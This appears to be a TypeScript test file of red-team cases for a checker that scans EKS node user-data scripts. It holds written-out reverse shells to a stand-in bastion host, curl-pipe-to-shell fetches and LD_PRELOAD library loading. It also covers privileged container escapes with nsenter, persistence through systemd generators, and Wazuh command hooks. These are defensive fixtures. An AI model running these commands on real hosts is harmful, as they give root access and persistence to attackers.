// Red-team round 70 on EKS NODE user data (fresh eyes on round 70's agent, loader and listener fixes).
// Probed: round 70's agent fixes' neighbours (container -c lines: --entrypoint /bin/bash, IMAGE sh -c with / bound,
// docker create/start, docker/nerdctl exec, ctr run, compose; manager environment: system.conf.d DefaultEnvironment,
// environment generators, gdbus/busctl SetEnvironment spellings; unit files: systemd generators, SYSTEMD_EDITOR=tee
// systemctl edit, install -D /dev/stdin, cp -r drop-in trees, EnvironmentFile=, systemctl enable/link of a path;
// wazuh: ossec.conf localfile command/full_command, command wodle, active-response script, tee -a and unanchored
// sed of remote_commands; salt-minion, cron.d, timers), the loader fixes' neighbours (ruby load after Dir.chdir,
// FileUtils.cd, perl `use lib "."`/-I. + chdir, CORE::require, CORE::evalbytes, *FindBin::RealBin, local $ENV and
// %ENV list assignment, ruby ENV.update/IO.popen/Open3 env hashes, tcl array set env, luaposix setenv, ffi.load
// aliased, Fiddle.dlopen, DynaLoader::dl_load_file, tcl load, node process.dlopen, tcl auto_path . + cd) and the
// listener fixes' neighbours (Go TCPAddr{Port}/IPv6zero/IPv4(127,0,0,1), Rust [0,0,0,0]/[127,0,0,1] arrays and
// Ipv6Addr::UNSPECIFIED, Kestrel http://+ / http://* / appsettings.json endpoints, ASPNETCORE_URLS, Java
// InetSocketAddress(port), node listen without a host, socat).
// Misses (7 insecure, 2 secure):
// - LUA-LOADER-VARIABLE (2): luaposix posix.setenv / posix.stdlib.setenv("LD_PRELOAD", ...) then os.execute.
// - CONTAINER-EXEC (2): docker exec / nerdctl exec `sh -c` into a container the script started --privileged
//   --pid=host (only an exec that itself escalates is judged).
// - ENVIRONMENT-GENERATOR (1): /etc/systemd/system-environment-generators/* printing K3S_URL for the packaged k3s.
// - WAZUH-OSSEC-COMMANDS (2): ossec.conf <localfile> full_command and <wodle name="command"> running fetched code.
// - secure LOOPBACK-CONSTANT (2): Go &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)}, Rust SocketAddr::from(([127, 0, 0,
//   1], port)) refused as every address.
// Held: every other insecure case (incl. DefaultEnvironment, generators, SYSTEMD_EDITOR, install -D, systemctl link,
// exec-free container forms, every loader neighbour, the listener constants); node_exporter with /:/host:ro is
// refused by design (an unread image holding / is a hostPath of /). Secure held: system.conf.d limits/TZ,
// environment.d proxy, containerd proxy drop-in, harmless drop-ins/SetEnvironment, wazuh df -P, node_exporter without
// binds, cron/timer of packaged binaries, loopback listeners (ASPNETCORE_URLS, node, Java), node servers of
// /etc/hostname on every address, and the loader twins.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

/** What a relay, a shared shell or unread root code is refused as. */
const RELAY =
    /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|X server|made at boot|cannot read|cannot compute|does not write|unknown|unread/;
/** What remote management of the node is refused as. */
const REMOTE = /hands the node|remote|ssh|tailnet|root|does not read|metadata|cannot read|cluster|unknown|unread/i;
/** What a listener serving the node as root is refused as. */
const SERVED =
    /web|node|3000|serv|unread|8080|8081|8000|5000|go|cargo|dotnet|java|caddy|nginx|unknown|process|build|listen|loopback|does not read/;

const PERL_SHELL = `use IO::Socket;$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;
const RUBY_SHELL = `require "socket";c=TCPSocket.new("bastion.example.com",4444);exec "/bin/sh -i",in: c,out: c,err: c`;
const BASH_SHELL = "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1";
const TCL_SHELL = `set s [socket bastion.example.com 4444]; while 1 { puts $s [exec sh -c [gets $s]]; flush $s }`;
const written = (path: string, text: string) => [`cat > ${path} <<'EOF'`, text, "EOF"];
const SH = written("/opt/r.sh", BASH_SHELL);
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const K3S_JOIN = 'Environment="K3S_URL=https://k3s.example.com:6443" "K3S_TOKEN=EXAMPLEONLY"';
const GO_MOD = ["module example.com/ops", "", "go 1.22"];
const CARGO_TOML = ["[package]", 'name = "ops"', 'version = "0.1.0"', 'edition = "2021"'];
const CSPROJ = ['<Project Sdk="Microsoft.NET.Sdk.Web"></Project>'];
const file = heredocFile;

const loadersInsecure: NodeCase[] = [
    devNodeCase("control: bash /opt/r.sh", devNodeScript("dev-c1-70-nodes", [...SH, "bash /opt/r.sh"]), RELAY),
    devNodeCase(
        "ruby Dir.chdir then load of a bare relative name",
        devNodeScript("dev-l1-70-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/helper.rb", `puts "hi"`),
            ...written("/opt/evil/helper.rb", RUBY_SHELL),
            `cd /opt/app && ruby -e 'Dir.chdir("/opt/evil"); load "helper.rb"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby FileUtils.cd then require ./helper",
        devNodeScript("dev-l2-70-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/helper.rb", `puts "hi"`),
            ...written("/opt/evil/helper.rb", RUBY_SHELL),
            `cd /opt/app && ruby -rfileutils -e 'FileUtils.cd("/opt/evil"); require "./helper"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        'perl use lib "." then chdir then require a module',
        devNodeScript("dev-l3-70-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/evil/Helper.pm", `package Helper; ${PERL_SHELL}; 1;`),
            `cd /opt/app && perl -e 'use lib "."; chdir "/opt/evil"; require Helper;'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl -I. then chdir then require a module",
        devNodeScript("dev-l4-70-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/evil/Helper.pm", `package Helper; ${PERL_SHELL}; 1;`),
            `cd /opt/app && perl -I. -e 'chdir "/opt/evil"; require Helper;'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl CORE::require of a written shell",
        devNodeScript("dev-l5-70-nodes", [
            ...written("/opt/r.pl", `${PERL_SHELL}; 1;`),
            `perl -e 'CORE::require "/opt/r.pl"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl CORE::evalbytes of a literal running a written shell",
        devNodeScript("dev-l6-70-nodes", [...SH, `perl -e 'CORE::evalbytes(q{system "bash /opt/r.sh"})'`]),
        RELAY,
    ),
    devNodeCase(
        "perl *FindBin::RealBin glob assigned before use lib",
        devNodeScript("dev-l7-70-nodes", [
            "mkdir -p /opt/app/lib /opt/evil/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/evil/lib/Helper.pm", `package Helper; ${PERL_SHELL}; 1;`),
            ...written(
                "/opt/app/run.pl",
                `use FindBin; BEGIN { *FindBin::RealBin = \\"/opt/evil" } use lib "$FindBin::RealBin/lib"; use Helper;`,
            ),
            "perl /opt/app/run.pl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl local $ENV{LD_PRELOAD} then system ls",
        devNodeScript("dev-l8-70-nodes", [SO, `perl -e 'local $ENV{LD_PRELOAD} = "/opt/x.so"; system("ls")'`]),
        RELAY,
    ),
    devNodeCase(
        "perl %ENV list assignment with LD_PRELOAD then system ls",
        devNodeScript("dev-l9-70-nodes", [SO, `perl -e '%ENV = (%ENV, LD_PRELOAD => "/opt/x.so"); system("ls")'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby ENV.update LD_PRELOAD then system ls",
        devNodeScript("dev-l10-70-nodes", [SO, `ruby -e 'ENV.update("LD_PRELOAD" => "/opt/x.so"); system("ls")'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby IO.popen with an env hash LD_PRELOAD",
        devNodeScript("dev-l11-70-nodes", [SO, `ruby -e 'IO.popen({"LD_PRELOAD" => "/opt/x.so"}, "ls").read'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby Open3.capture2 with an env hash LD_PRELOAD",
        devNodeScript("dev-l12-70-nodes", [
            SO,
            `ruby -ropen3 -e 'Open3.capture2({"LD_PRELOAD" => "/opt/x.so"}, "ls")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl array set env LD_PRELOAD then exec ls",
        devNodeScript("dev-l13-70-nodes", [SO, `tclsh <<< 'array set env {LD_PRELOAD /opt/x.so}; exec ls'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 71): luaposix reference (posix.stdlib.setenv(name, value): "Set an environment variable for this process";
    // the top-level posix.setenv re-exports it) + Lua 5.4 manual os.execute (ISO C system(): the child inherits the
    // environment) + ld.so(8) LD_PRELOAD: the downloaded /opt/x.so is loaded into root's ls. Round 70 made loader
    // variables set in perl %ENV, ruby ENV, tcl env() make the child unread; the lua judge (userData.ts CODE_LOADERS lua /
    // the inline lua command reading) reads only `os.execute("ls")`. Accepted (got []). Fix: a luaposix setenv
    // (posix.setenv, posix.stdlib.setenv, require("posix.stdlib").setenv) naming a loader variable (LD_*, BASH_ENV, ...)
    // makes the children unread, as the other languages do.
    devNodeCase(
        "lua posix.stdlib setenv LD_PRELOAD then os.execute ls",
        devNodeScript("dev-l14-70-nodes", [
            SO,
            `lua -e 'require("posix.stdlib").setenv("LD_PRELOAD", "/opt/x.so"); os.execute("ls")'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 71): same gap as the case above (luaposix top-level posix.setenv). Accepted (got []).
    devNodeCase(
        "lua posix.setenv (luaposix top-level) LD_PRELOAD then os.execute ls",
        devNodeScript("dev-l14b-70-nodes", [
            SO,
            `lua -e 'local posix = require("posix"); posix.setenv("LD_PRELOAD", "/opt/x.so"); os.execute("ls")'`,
        ]),
        RELAY,
    ),
    // Round 71 neighbours: the setter aliased (its name is computed), BASH_ENV through a written lua file, and the
    // putenv "NAME=VALUE" spelling.
    devNodeCase(
        "lua luaposix setenv aliased to a local, LD_PRELOAD then os.execute ls",
        devNodeScript("dev-l14c-71-nodes", [
            SO,
            `lua -e 'local stdlib = require "posix.stdlib"; local set = stdlib.setenv; set("LD_PRELOAD", "/opt/x.so"); os.execute("ls")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "lua file: posix.setenv BASH_ENV of a written shell then io.popen bash",
        devNodeScript("dev-l14d-71-nodes", [
            ...SH,
            ...written(
                "/opt/run.lua",
                `local posix = require("posix")\nposix.setenv("BASH_ENV", "/opt/r.sh")\nio.popen("bash -c true"):read("a")`,
            ),
            "lua /opt/run.lua",
        ]),
        RELAY,
    ),
    devNodeCase(
        "lua putenv of LD_PRELOAD=... then os.execute ls",
        devNodeScript("dev-l14e-71-nodes", [
            SO,
            `lua -e 'local posix = require("posix"); posix.putenv("LD_PRELOAD=/opt/x.so"); os.execute("ls")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "luajit ffi.load aliased to a local",
        devNodeScript("dev-l15-70-nodes", [
            SO,
            `luajit -e 'local ffi = require("ffi"); local ld = ffi.load; ffi.cdef[[int run(void);]]; ld("/opt/x.so").run()'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby Fiddle.dlopen of a downloaded library",
        devNodeScript("dev-l16-70-nodes", [SO, `ruby -rfiddle -e 'Fiddle.dlopen("/opt/x.so")'`]),
        RELAY,
    ),
    devNodeCase(
        "perl DynaLoader::dl_load_file of a downloaded library",
        devNodeScript("dev-l17-70-nodes", [SO, `perl -MDynaLoader -e 'DynaLoader::dl_load_file("/opt/x.so")'`]),
        RELAY,
    ),
    devNodeCase(
        "tcl load of a downloaded library",
        devNodeScript("dev-l18-70-nodes", [SO, `tclsh <<< 'load /opt/x.so Evil'`]),
        RELAY,
    ),
    devNodeCase(
        "node process.dlopen of a downloaded library",
        devNodeScript("dev-l19-70-nodes", [SO, `node -e 'process.dlopen({ exports: {} }, "/opt/x.so")'`]),
        RELAY,
    ),
    devNodeCase(
        "tcl lappend auto_path . then cd then package require",
        devNodeScript("dev-l20-70-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written(
                "/opt/app/pkgIndex.tcl",
                "package ifneeded helper 1.0 [list source [file join $dir helper.tcl]]",
            ),
            ...written("/opt/app/helper.tcl", "package provide helper 1.0"),
            ...written(
                "/opt/evil/pkgIndex.tcl",
                "package ifneeded helper 1.0 [list source [file join $dir helper.tcl]]",
            ),
            ...written("/opt/evil/helper.tcl", `${TCL_SHELL}\npackage provide helper 1.0`),
            `cd /opt/app && tclsh <<< 'lappend auto_path .; cd /opt/evil; package require helper'`,
        ]),
        RELAY,
    ),
];

const loadersSecure: NodeCase[] = [
    devNodeCase(
        'perl use lib "$FindBin::RealBin/lib" harmless',
        devNodeScript("dev-ls1-70-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/app/run.pl", `use FindBin; use lib "$FindBin::RealBin/lib"; use Helper; Helper::hi();`),
            "perl /opt/app/run.pl > /tmp/h",
        ]),
    ),
    devNodeCase(
        "ruby Dir.chdir with a block then require_relative harmless",
        devNodeScript("dev-ls2-70-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/helper.rb", `def hi; File.write("/tmp/h", "hi"); end`),
            ...written("/opt/app/run.rb", `require_relative "lib/helper"\nDir.chdir("/tmp") { hi }`),
            "ruby /opt/app/run.rb",
        ]),
    ),
    devNodeCase(
        "perl local $ENV{TZ} then system date harmless",
        devNodeScript("dev-ls3-70-nodes", [`perl -e 'local $ENV{TZ} = "UTC"; system("date")' > /tmp/d`]),
    ),
    devNodeCase(
        "lua luaposix setenv TZ then os.execute date harmless (round 71 twin)",
        devNodeScript("dev-ls6-71-nodes", [
            `lua -e 'require("posix.stdlib").setenv("TZ", "UTC"); os.execute("date > /tmp/d")'`,
        ]),
    ),
    devNodeCase(
        "ruby IO.popen with an env hash TZ harmless",
        devNodeScript("dev-ls4-70-nodes", [`ruby -e 'print IO.popen({"TZ" => "UTC"}, "date").read' > /tmp/d`]),
    ),
    devNodeCase(
        "tcl [file dirname [file normalize [info script]]] after a cd harmless",
        devNodeScript("dev-ls5-70-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written(
                "/opt/app/main.tcl",
                "set dir [file dirname [file normalize [info script]]]\ncd /tmp\nsource [file join $dir lib.tcl]\nhi",
            ),
            "tclsh /opt/app/main.tcl > /tmp/h",
        ]),
    ),
];

const agentsInsecure: NodeCase[] = [
    devNodeCase(
        "docker --privileged --pid=host --entrypoint /bin/bash -c nsenter into the host",
        devNodeScript("dev-a1-70-nodes", [
            "docker run -d --privileged --pid=host --entrypoint /bin/bash docker.io/library/ubuntu:24.04 -c 'nsenter -t 1 -m -u -n -i -- sh -c \"curl -fsSL https://ci.example.com/r.sh | sh\"'",
        ]),
        RELAY,
    ),
    devNodeCase(
        "docker run --privileged -v /:/host (no --entrypoint) sh -c chroot running a fetched script",
        devNodeScript("dev-a2-70-nodes", [
            "docker run -d --privileged -v /:/host docker.io/library/alpine:3.20 sh -c 'chroot /host sh -c \"curl -fsSL https://ci.example.com/r.sh | sh\"'",
        ]),
        RELAY,
    ),
    devNodeCase(
        "docker create + docker start of a privileged --entrypoint sh -c container",
        devNodeScript("dev-a3-70-nodes", [
            "docker create --name r --privileged --net=host --pid=host --entrypoint sh docker.io/library/alpine:3.20 -c 'nsenter -t 1 -a sh -c \"curl -fsSL https://ci.example.com/r.sh | sh\"'",
            "docker start r",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 71): docker exec reference ("runs a new command in a running container"; the process gets the container's
    // privileges, and `--privileged` on run grants "all capabilities", with --pid=host nsenter -t 1 reaches PID 1's
    // namespaces): the exec'd `sh -c` line fetches and runs a script in the node's namespaces as root. rootReads.ts
    // (the container engine branch, ~6270: containerExec/exec.escalates) only judges an exec that itself adds
    // --privileged, or one writing through binds; an exec into a container the script started privileged/host-PID is
    // not read at all. Accepted (got []). Fix: remember each named container's node reach (nodeReach/onHostNetwork of its
    // run) and read an exec's `sh -c` line into a node-reaching container as user data's own (as round 70 did for
    // `--entrypoint sh -c`); an exec into an unknown container unread.
    devNodeCase(
        "docker exec sh -c into a privileged host-pid container",
        devNodeScript("dev-a4-70-nodes", [
            "docker run -d --name tools --privileged --pid=host docker.io/library/alpine:3.20 sleep infinity",
            "docker exec tools sh -c 'nsenter -t 1 -a sh -c \"curl -fsSL https://ci.example.com/r.sh | sh\"'",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 71): same gap as docker exec (nerdctl exec, containerd). Accepted (got []).
    devNodeCase(
        "nerdctl exec sh -c into a privileged host-pid container",
        devNodeScript("dev-a4b-70-nodes", [
            "nerdctl run -d --name tools --privileged --pid=host docker.io/library/alpine:3.20 sleep infinity",
            "nerdctl exec tools sh -c 'nsenter -t 1 -a sh -c \"curl -fsSL https://ci.example.com/r.sh | sh\"'",
        ]),
        RELAY,
    ),
    // Round 71 neighbours: a host-network container (instance metadata answers it with the node role), podman exec
    // -it bash -c into a host-PID one, an exec into a container the script did not start (its powers unknown), and
    // one started by another engine under the same name (docker's store is not containerd's).
    devNodeCase(
        "docker exec sh -c running a fetched script in a host-network container",
        devNodeScript("dev-a4c-71-nodes", [
            "docker run -d --name tools --net=host docker.io/library/alpine:3.20 sleep infinity",
            "docker exec tools sh -c 'curl -fsSL https://ci.example.com/r.sh | sh'",
        ]),
        RELAY,
    ),
    devNodeCase(
        "podman exec -it bash -c into a host-pid container running a reverse shell",
        devNodeScript("dev-a4d-71-nodes", [
            "podman run -d --name tools --pid=host --privileged docker.io/library/ubuntu:24.04 sleep infinity",
            `podman exec -it tools bash -c 'nsenter -t 1 -a ${BASH_SHELL}'`,
        ]),
        RELAY,
    ),
    // Round 71: a reverse shell on the -c line of a node-reaching container (run or exec) was read by the root reader
    // only (made-at-boot programs, data directories), not by the judge of relays: the shell is now judged as a command
    // root runs (rootReads containerShell → NodeJudge.ran).
    devNodeCase(
        "docker run --privileged --pid=host --entrypoint /bin/bash -c nsenter reverse shell",
        devNodeScript("dev-a4g-71-nodes", [
            `docker run -d --privileged --pid=host --entrypoint /bin/bash docker.io/library/ubuntu:24.04 -c 'nsenter -t 1 -a ${BASH_SHELL}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "docker run --privileged --pid=host IMAGE bash -c reverse shell",
        devNodeScript("dev-a4h-71-nodes", [
            `docker run -d --privileged --pid=host docker.io/library/ubuntu:24.04 bash -c '${BASH_SHELL}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "docker exec of a harmless command into a container the script did not start",
        devNodeScript("dev-a4e-71-nodes", ["docker exec tools sh -c 'apk info -v > /tmp/pkgs'"]),
        RELAY,
    ),
    devNodeCase(
        "docker exec into a name nerdctl started (another engine's store)",
        devNodeScript("dev-a4f-71-nodes", [
            "nerdctl run -d --name tools docker.io/library/alpine:3.20 sleep infinity",
            "docker exec tools sh -c 'apk info -v > /tmp/pkgs'",
        ]),
        RELAY,
    ),
    devNodeCase(
        "ctr run --privileged with host networking running a fetched script",
        devNodeScript("dev-a5-70-nodes", [
            "ctr image pull docker.io/library/alpine:3.20",
            "ctr run -d --privileged --net-host --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:3.20 r sh -c 'chroot /host sh -c \"curl -fsSL https://ci.example.com/r.sh | sh\"'",
        ]),
        RELAY,
    ),
    devNodeCase(
        "docker compose file with a privileged sh -c entrypoint",
        devNodeScript("dev-a6-70-nodes", [
            ...file("/opt/r/compose.yaml", [
                "services:",
                "  r:",
                "    image: docker.io/library/alpine:3.20",
                "    privileged: true",
                "    pid: host",
                '    entrypoint: ["sh", "-c"]',
                "    command: [\"nsenter -t 1 -a sh -c 'curl -fsSL https://ci.example.com/r.sh | sh'\"]",
            ]),
            "docker compose -f /opt/r/compose.yaml up -d",
        ]),
        RELAY,
    ),
    devNodeCase(
        "systemd system.conf.d DefaultEnvironment K3S_URL, k3s started",
        devNodeScript("dev-a7-70-nodes", [
            ...file("/etc/systemd/system.conf.d/50-join.conf", [
                "[Manager]",
                'DefaultEnvironment="K3S_URL=https://k3s.example.com:6443" "K3S_TOKEN=EXAMPLEONLY"',
            ]),
            "systemctl daemon-reexec",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 71): systemd.environment-generator(7) ("systemd(1) will execute those binaries very early at the startup of each
    // manager and at configuration reload time ... Environment generators can override the environment that the manager
    // exports to services"; /etc/systemd/system-environment-generators/* is on the path): the written generator's output
    // K3S_URL/K3S_TOKEN reaches the packaged k3s unit, which joins another cluster (its API users run anything as root on
    // the node). The pack reads DefaultEnvironment= (system.conf.d) and SetEnvironment (systemctl, busctl, gdbus) but not
    // environment generators. Accepted (got []). Fix: an executable written under any system-environment-generators
    // directory is root code run at boot/daemon-reload (judge it as user data's own script) and its output is the
    // manager's environment: read literal `echo NAME=VALUE` lines as DefaultEnvironment, else unread (fail closed).
    devNodeCase(
        "systemd environment generator printing K3S_URL, k3s started",
        devNodeScript("dev-a8-70-nodes", [
            ...file("/etc/systemd/system-environment-generators/50-join", [
                "#!/bin/sh",
                "echo K3S_URL=https://k3s.example.com:6443",
                "echo K3S_TOKEN=EXAMPLEONLY",
            ]),
            "chmod 755 /etc/systemd/system-environment-generators/50-join",
            "systemctl daemon-reexec",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Round 71 neighbours: the packaged directory with quoted echo lines, a generator printing by other means
    // (printf: unread), a loader variable for every unit (a user manager's generator too), and one fetched.
    devNodeCase(
        "systemd environment generator in /usr/lib with quoted echo lines, k3s started",
        devNodeScript("dev-a8b-71-nodes", [
            ...file("/usr/lib/systemd/system-environment-generators/50-join", [
                "#!/usr/bin/env bash",
                "# join the ops cluster",
                `echo "K3S_URL=https://k3s.example.com:6443"`,
                "echo 'K3S_TOKEN=EXAMPLEONLY'",
            ]),
            "chmod 755 /usr/lib/systemd/system-environment-generators/50-join",
            "systemctl daemon-reexec",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "systemd environment generator printing with printf (unread), k3s started",
        devNodeScript("dev-a8c-71-nodes", [
            ...file("/etc/systemd/system-environment-generators/50-join", [
                "#!/bin/sh",
                "printf 'K3S_URL=%s\\nK3S_TOKEN=%s\\n' https://k3s.example.com:6443 EXAMPLEONLY",
            ]),
            "chmod 755 /etc/systemd/system-environment-generators/50-join",
            "systemctl daemon-reexec",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "systemd environment generator setting LD_PRELOAD for every unit",
        devNodeScript("dev-a8d-71-nodes", [
            SO,
            ...file("/etc/systemd/system-environment-generators/10-preload", [
                "#!/bin/sh",
                "echo LD_PRELOAD=/opt/x.so",
            ]),
            "chmod 755 /etc/systemd/system-environment-generators/10-preload",
            "systemctl daemon-reexec",
        ]),
        RELAY,
    ),
    devNodeCase(
        "user-environment generator setting BASH_ENV",
        devNodeScript("dev-a8e-71-nodes", [
            ...SH,
            ...file("/etc/systemd/user-environment-generators/10-env", ["#!/bin/sh", "echo BASH_ENV=/opt/r.sh"]),
            "chmod 755 /etc/systemd/user-environment-generators/10-env",
        ]),
        RELAY,
    ),
    devNodeCase(
        "systemd environment generator downloaded into place, k3s started",
        devNodeScript("dev-a8f-71-nodes", [
            "curl -fsSL -o /etc/systemd/system-environment-generators/50-join https://ci.example.com/gen.sh",
            "chmod 755 /etc/systemd/system-environment-generators/50-join",
            "systemctl daemon-reexec",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "systemd generator (root at every daemon-reload) running a reverse shell",
        devNodeScript("dev-a9-70-nodes", [
            ...file("/etc/systemd/system-generators/zz-r", ["#!/bin/bash", `(${BASH_SHELL}) &`]),
            "chmod 755 /etc/systemd/system-generators/zz-r",
            "systemctl daemon-reload",
        ]),
        RELAY,
    ),
    devNodeCase(
        "SYSTEMD_EDITOR=tee systemctl edit k3s with the drop-in on stdin",
        devNodeScript("dev-a10-70-nodes", [
            `printf '[Service]\\n${K3S_JOIN.replace(/"/g, '\\"')}\\n' | SYSTEMD_EDITOR=tee systemctl edit k3s`,
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s drop-in written by install -D from a here-document",
        devNodeScript("dev-a11-70-nodes", [
            "install -D -m 0644 /dev/stdin /etc/systemd/system/k3s.service.d/50-join.conf <<'EOF'",
            "[Service]",
            K3S_JOIN,
            "EOF",
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s drop-in copied from a directory tree (cp -r)",
        devNodeScript("dev-a12-70-nodes", [
            ...file("/opt/units/k3s.service.d/50-join.conf", ["[Service]", K3S_JOIN]),
            "cp -r /opt/units/k3s.service.d /etc/systemd/system/",
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s drop-in EnvironmentFile naming a written env file",
        devNodeScript("dev-a13-70-nodes", [
            ...file("/opt/k3s/join.env", ["K3S_URL=https://k3s.example.com:6443", "K3S_TOKEN=EXAMPLEONLY"]),
            ...file("/etc/systemd/system/k3s.service.d/50-env.conf", [
                "[Service]",
                "EnvironmentFile=-/opt/k3s/join.env",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "systemctl enable of a unit file outside the search path (links it in)",
        devNodeScript("dev-a14-70-nodes", [
            ...file("/opt/units/r.service", [
                "[Unit]",
                "Description=r",
                "[Service]",
                `ExecStart=/bin/bash -c '${BASH_SHELL}'`,
                "Restart=always",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl enable --now /opt/units/r.service",
        ]),
        RELAY,
    ),
    devNodeCase(
        "systemctl link of a unit outside the search path then start",
        devNodeScript("dev-a15-70-nodes", [
            ...file("/opt/units/r.service", [
                "[Unit]",
                "Description=r",
                "[Service]",
                `ExecStart=/bin/bash -c '${BASH_SHELL}'`,
                "Restart=always",
            ]),
            "systemctl link /opt/units/r.service",
            "systemctl start r",
        ]),
        RELAY,
    ),
    devNodeCase(
        "gdbus SetEnvironment with K3S_URL (round 70 fix, gdbus form)",
        devNodeScript("dev-a16-70-nodes", [
            `gdbus call --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.SetEnvironment "['K3S_URL=https://k3s.example.com:6443', 'K3S_TOKEN=EXAMPLEONLY']"`,
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "busctl --quiet call SetEnvironment with options before the verb",
        devNodeScript("dev-a17-70-nodes", [
            "busctl --system --quiet call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager SetEnvironment as 2 K3S_URL=https://k3s.example.com:6443 K3S_TOKEN=EXAMPLEONLY",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 71): Wazuh ossec.conf reference, localfile `command` ("A command to be run. All output from this command will be
    // read as one or more log messages depending on whether command or full_command is used"; run by wazuh-logcollector,
    // root on the agent, every `frequency` seconds): root fetches and runs a script from ci.example.com every minute.
    // The pack reads wazuh's remote_commands switches (internal_options.conf, local_internal_options.conf) but not the
    // agent's own ossec.conf command lines (a `<command>` naming a written script is caught through the script path, a
    // fetched one is not). Accepted (got []). Fix: read each `<localfile><command>` (log_format command/full_command) and
    // `<wodle name="command"><command>` of a written/appended ossec.conf (and shared agent.conf) as a root command line
    // (plainShellLines), unread → fail closed.
    devNodeCase(
        "wazuh ossec.conf localfile full_command fetching and running a script",
        devNodeScript("dev-a18-70-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            "  <localfile>",
            "    <log_format>full_command</log_format>",
            "    <command>curl -fsSL https://ci.example.com/r.sh | sh</command>",
            "    <frequency>60</frequency>",
            "  </localfile>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        RELAY,
    ),
    devNodeCase(
        "wazuh ossec.conf localfile log_format command running a written shell",
        devNodeScript("dev-a18b-70-nodes", [
            ...SH,
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            "  <localfile>",
            "    <log_format>command</log_format>",
            "    <command>bash /opt/r.sh</command>",
            "  </localfile>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 71): Wazuh "Command" wodle reference (wodle name="command": "<command> Command to be executed", run by the agent's
    // modulesd as root every <interval>): same gap as the localfile command above. Accepted (got []).
    devNodeCase(
        "wazuh ossec.conf command wodle running a fetched script",
        devNodeScript("dev-a19-70-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            '  <wodle name="command">',
            "    <disabled>no</disabled>",
            "    <command>/bin/sh -c 'curl -fsSL https://ci.example.com/r.sh | sh'</command>",
            "    <interval>1h</interval>",
            "  </wodle>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        RELAY,
    ),
    // Round 71 neighbours: the centralized agent.conf, XML entities and CDATA in the line, a command element the pack
    // cannot read (markup inside), and a configuration downloaded into place.
    devNodeCase(
        "wazuh shared agent.conf localfile command with a reverse shell",
        devNodeScript("dev-a19b-71-nodes", [
            ...file("/var/ossec/etc/shared/agent.conf", [
                "<agent_config>",
                "  <localfile>",
                "    <log_format>full_command</log_format>",
